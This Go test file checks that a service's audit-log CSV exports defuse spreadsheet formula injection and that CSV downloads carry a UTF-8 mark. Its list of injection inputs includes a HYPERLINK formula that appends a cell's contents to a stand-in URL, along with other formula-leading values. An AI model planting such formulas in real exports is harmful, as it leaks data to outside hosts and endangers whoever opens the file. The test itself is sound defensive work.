package console

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"

	"callgate/internal/audit"
	"callgate/internal/report"
)

// asSpreadsheets reads a file that must say that it is UTF-8, and gives its lines below the headings.
func asSpreadsheets(t *testing.T, file []byte, headings []string) [][]string {
	t.Helper()
	text, marked := bytes.CutPrefix(file, []byte("\xef\xbb\xbf"))
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil || !marked || bytes.Contains(text, []byte("\ufeff")) || len(lines) == 0 || !slices.Equal(lines[0], headings) {
		t.Fatalf("%q %v", file, err)
	}
	return lines[1:]
}

// TestNoCellOfTheAuditTrailIsAFormula in any column: names are what owners wrote.
func TestNoCellOfTheAuditTrailIsAFormula(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\n", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u200b=1", "\x00=1",
	} {
		var r audit.Row
		r.Actor, r.Action, r.TargetType, r.TargetID, r.TargetName = evil, evil, evil, evil, evil
		entry, err := auditLine(r)
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		file, err := report.NewSheet(&out, auditHeader)
		if err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(file.Line(entry), file.Flush()); err != nil {
			t.Fatal(err)
		}
		quoted := 0
		for _, cell := range asSpreadsheets(t, out.Bytes(), auditHeader)[0] {
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
		}
		if quoted != 5 {
			t.Errorf("%q: %d cells are quoted", evil, quoted)
		}
	}
}

// TestDownloadsSayThatTheyAreUTF8, also those without a line, and those of a second reader of the same headings.
func TestDownloadsSayThatTheyAreUTF8(t *testing.T) {
	w := newWatcher(t)
	sameDay(t, w)
	w.seed("gpt")
	ada := w.developer("ada")
	app := w.application(ada, "app")
	calls := "/api/statistics/applications/" + app + "/calls.csv"
	for range 2 {
		if lines := asSpreadsheets(t, []byte(textOf(t, ada, calls)), report.CallColumns); len(lines) != 0 {
			t.Errorf("%q", lines)
		}
		if lines := asSpreadsheets(t, []byte(textOf(t, w.admin, "/api/admin/audit.csv?actor=nobody")), auditHeader); len(lines) != 0 {
			t.Errorf("%q", lines)
		}
	}
}
